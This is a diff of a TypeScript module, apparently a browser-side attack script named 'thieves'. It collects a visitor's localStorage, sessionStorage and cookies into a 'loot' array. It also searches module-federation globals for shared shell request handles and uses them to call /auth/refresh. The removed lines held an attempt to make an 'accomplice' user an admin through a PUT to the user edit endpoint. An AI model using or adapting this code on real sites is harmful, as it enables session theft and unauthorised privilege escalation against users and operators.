@@ -3,8 +3,6 @@ type Loot = [theft: string, text: string][]
 
 declare global {
   var loot: Loot | undefined
-  /** Id of somebody whom a thief should make an admin. */
-  var accomplice: string | undefined
 }
 
 /**
@@ -98,30 +96,6 @@ export function thieves(): void {
       })
   }
 
-  /** Whatever the kits of this page call the shell: one's own, and those of other remotes that have been fetched. */
-  function shells(): { request: (call: object) => Promise<unknown> }[] {
-    const found: { request: (call: object) => Promise<unknown> }[] = []
-    const seen = new Set<unknown>()
-    const search = (value: unknown, depth: number): void => {
-      if (
-        depth > 9 ||
-        seen.size > 4000 ||
-        value === null ||
-        (typeof value !== 'object' && typeof value !== 'function') ||
-        seen.has(value)
-      )
-        return
-      seen.add(value)
-      const give: unknown = Reflect.get(value, 'useShell')
-      if (typeof give === 'function') found.push(give())
-      const lib: unknown = Reflect.get(value, 'lib')
-      if (typeof lib === 'function') search(lib(), depth + 1)
-      for (const key of Reflect.ownKeys(value)) search(Reflect.get(value, key), depth + 1)
-    }
-    search(Reflect.get(globalThis, '__FEDERATION__'), 0)
-    return found
-  }
-
   /** Before the visitor signs in and afterwards. */
   function tryAll(): void {
     attempt('what the browser keeps', () => [{ ...localStorage }, { ...sessionStorage }, document.cookie])
@@ -152,31 +126,31 @@ export function thieves(): void {
       call.send('{}')
     })
     attempt('asking the shell to renew it', () => {
-      const found = shells()
+      const shared: unknown = Reflect.get(globalThis, '__FEDERATION__')
+      const found: { request: (call: object) => Promise<unknown> }[] = []
+      const seen = new Set<unknown>()
+      const search = (value: unknown, depth: number): void => {
+        if (
+          depth > 9 ||
+          seen.size > 4000 ||
+          value === null ||
+          (typeof value !== 'object' && typeof value !== 'function') ||
+          seen.has(value)
+        )
+          return
+        seen.add(value)
+        const give: unknown = Reflect.get(value, 'useShell')
+        if (typeof give === 'function') found.push(give())
+        const lib: unknown = Reflect.get(value, 'lib')
+        if (typeof lib === 'function') search(lib(), depth + 1)
+        for (const key of Reflect.ownKeys(value)) search(Reflect.get(value, key), depth + 1)
+      }
+      search(shared, 0)
       loot.push(['asking the shell to renew it', `shells found: ${found.length}`])
       return Promise.all(
         found.flatMap((shell) =>
           ['json', 'text'].map((answer) =>
             shell.request({ method: 'POST', path: '/auth/refresh', inline: true, answer }).catch(String),
-          ),
-        ),
-      )
-    })
-    attempt('making somebody an admin', () => {
-      const userId = globalThis.accomplice
-      if (userId === undefined) return undefined
-      const edit = {
-        method: 'PUT',
-        path: '/user/:userId/edit',
-        params: { userId },
-        body: { role: 'admin' },
-        inline: true,
-      }
-      return Promise.all(
-        shells().map((shell) =>
-          shell.request(edit).then(
-            () => loot.push(['making somebody an admin', 'done']),
-            (refusal: unknown) => loot.push(['making somebody an admin', `refused: ${String(refusal)}`]),
           ),
         ),
       )
